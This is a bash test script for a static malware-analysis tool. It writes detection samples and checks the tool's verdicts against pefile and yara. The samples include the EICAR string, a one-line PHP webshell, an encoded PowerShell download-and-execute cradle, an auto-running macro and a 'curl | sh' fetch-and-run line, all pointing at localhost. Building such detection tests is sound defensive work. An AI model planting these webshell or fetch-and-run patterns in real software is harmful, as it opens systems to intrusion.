#!/usr/bin/env bash
# The static-analysis cross-check (`make static-check`): builds benign PEs/ELFs, writes
# script/webshell/EICAR samples, runs `nestbox analyze` on them all, and compares the
# results with pefile (PyPI, in a venv made here) and the `yara` CLI (Debian).
#
#   tests/static/run.sh path/to/nestbox
set -euo pipefail
bin=$(realpath "${1:?usage: run.sh NESTBOX_BINARY}")
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
venv="$root/.venv-static"
if [ ! -x "$venv/bin/python" ]; then
  python3 -m venv "$venv"
  "$venv/bin/pip" install -q pefile==2024.8.26
fi
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
"$here/build-samples.sh" "$work/samples"
s="$work/samples"
# Samples for the script, webshell, macro and EICAR rules, written as the rules expect.
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$s/eicar.com"
printf '<?php @eval(base64_decode($_POST["x"])); ?>\n' >"$s/shell.php"
printf 'powershell -nop -w hidden -enc %s\n' "$(printf 'IEX (New-Object Net.WebClient).DownloadString("http://127.0.0.1/a")' | base64 -w0)" >"$s/run.bat"
printf 'Sub AutoOpen()\n  Set s = CreateObject("WScript.Shell")\n  s.Run "calc"\nEnd Sub\n' >"$s/macro.bas"
printf 'curl -s http://127.0.0.1/x.sh | sh\n' >"$s/install.sh"
head -c 20000 /dev/urandom >"$s/random.bin"
files=("$s"/*)
# The starter rules only (nothing from a stray ./nestbox.toml or data dir).
cfg="$work/nestbox.toml"
printf 'data_dir = "%s/data"\n' "$work" >"$cfg"
"$bin" analyze --config "$cfg" --format jsonl "${files[@]}" >"$work/reports.jsonl"
"$venv/bin/python" "$here/check.py" "$work/reports.jsonl" "$root/rules" "${files[@]}"
